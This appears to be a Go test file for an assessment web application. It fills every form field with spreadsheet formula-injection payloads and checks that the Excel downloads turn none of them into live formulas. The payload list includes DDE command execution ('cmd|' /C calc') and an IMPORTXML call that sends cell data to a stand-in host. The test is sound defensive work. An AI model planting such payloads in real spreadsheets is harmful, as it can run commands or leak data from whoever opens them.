package main

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
	"unicode"

	"github.com/xuri/excelize/v2"

	"tuntas/app/account"
	"tuntas/app/assessment"
	"tuntas/questionnaires"
)

// formulas are texts that a spreadsheet would calculate, or that become such when blanks are cut off.
func formulas() []string {
	return []string{
		"=1+1", "=HYPERLINK(\"http://jahat.example\",\"klik\")", "=cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://jahat.example/\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\")",
		"+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", " =1+1", "\u00a0=1+1", "\u3000=1+1",
		"\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\n=1+1", "\r=1+1", "=\"a\"&\"b\"", "==1",
	}
}

// calculates reports whether a spreadsheet might take a text for a formula.
func calculates(text string) bool {
	text = strings.TrimLeftFunc(text, func(r rune) bool { return unicode.IsSpace(r) || unicode.Is(unicode.Cf, r) })
	return text != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(text)[0])
}

// dangerous fills an assessment with formulas in every text there is.
func (to *town) dangerous(by account.Actor, period string, shift int) assessment.ID {
	to.t.Helper()
	all := formulas()
	id := to.begun(by, period, "")
	def, err := questionnaires.Open(demoQuestionnaire)
	to.must(err)
	v, err := to.desk.View(to.t.Context(), by, id)
	to.must(err)
	var inputs []assessment.Input
	for i := range def.Questions {
		q := &def.Questions[i]
		text := all[(i+shift)%len(all)] + " rumus"
		in := assessment.Input{Question: q.ID, Revision: v.Assessment.Answers[q.ID].Revision, Comment: text, Language: "en"}
		switch i % 3 {
		case 0:
			in.Choice, in.Who, in.By = assessment.NotKnown, text, "2027-01-15"
		case 1:
			in.Choice, in.Reason = assessment.NotApplicable, text
		default:
			in.Choice, in.Text = assessment.Value, text
		}
		inputs = append(inputs, in)
	}
	_, _, _ = to.desk.Save(to.t.Context(), by, id, inputs) // what is no answer is kept as it was typed
	for i, text := range all[:6] {
		_, err := to.desk.AddEvidence(to.t.Context(), by, id, assessment.Upload{
			Question: "housed_workers", Name: text + " rumus.pdf", Content: strings.NewReader(string(samplePDF(fmt.Sprint(i, period)))), Size: int64(len(samplePDF(fmt.Sprint(i, period)))),
		})
		if i < assessment.MostAttached && err != nil && !strings.Contains(err.Error(), "name") {
			to.must(err)
		}
	}
	to.completed(by, id, all[shift%len(all)]+" rumus")
	v, err = to.desk.View(to.t.Context(), by, id)
	to.must(err)
	_, err = to.desk.Submit(to.t.Context(), by, id, assessment.Declaration{
		Name: all[(shift+1)%len(all)] + " rumus", Position: all[(shift+2)%len(all)] + " rumus", Agreed: true, Seen: v.Revision,
	})
	to.must(err)
	return id
}

func TestNoDownloadOfACompanyCalculates(t *testing.T) {
	t.Parallel()
	to := openTown(t, "")
	c := to.company(markPrefix + "8200")
	p := c.owner
	p.Name, p.Position, p.Email = "=1+1 rumus", "+1 rumus", "rumus@rumus.example"
	_, err := to.accounts.Seed(t.Context(), p)
	to.must(err)
	tab := to.as(p)
	by := to.actor(tab)
	o, err := to.accounts.Organisation(t.Context(), by)
	to.must(err)
	o.Profile.LegalName, o.Profile.Sites[0].Name = "=1+1 rumus", "@SUM(1) rumus"
	to.must(to.accounts.SaveProfile(t.Context(), by, o.Profile))
	met := 0
	for shift, period := range []string{"2025", "2026"} {
		id := to.dangerous(by, period, shift)
		for _, lang := range []string{"id", "en"} {
			for _, file := range []string{"hasil/laporan.xlsx", "excel/unduh"} {
				got := tab.get("/"+lang+"/penilaian/"+string(id)+"/"+file).wants(t, http.StatusOK)
				met += calculatesNothing(t, lang+" "+file, got.body)
			}
		}
	}
	if met < 720 {
		t.Errorf("only %d cells held a formula to be made harmless", met)
	}
	t.Logf("%d cells with the text of a formula", met)
}

// calculatesNothing looks at every cell of a workbook and counts those that tell of a formula.
func calculatesNothing(t *testing.T, name, content string) (met int) {
	t.Helper()
	f, err := excelize.OpenReader(strings.NewReader(content))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for y, row := range rows {
			for x, text := range row {
				if strings.Contains(text, "rumus") {
					met++
				}
				if fault := cellFault(f, sheet, x+1, y+1, text); fault != "" {
					t.Errorf("%s: %s holds %.60q: %s", name, sheet, text, fault)
				}
			}
		}
	}
	return met
}

// cellFault says what is wrong with a cell that would calculate.
func cellFault(f *excelize.File, sheet string, x, y int, text string) string {
	cell, err := excelize.CoordinatesToCellName(x, y)
	if err != nil {
		return err.Error()
	}
	kind, err := f.GetCellType(sheet, cell)
	if err != nil {
		return err.Error()
	}
	formula, err := f.GetCellFormula(sheet, cell)
	switch {
	case err != nil:
		return err.Error()
	case formula != "":
		return cell + " calculates " + formula
	case (kind == excelize.CellTypeSharedString || kind == excelize.CellTypeInlineString) && calculates(text):
		return cell + " is text that a program may calculate"
	}
	return ""
}
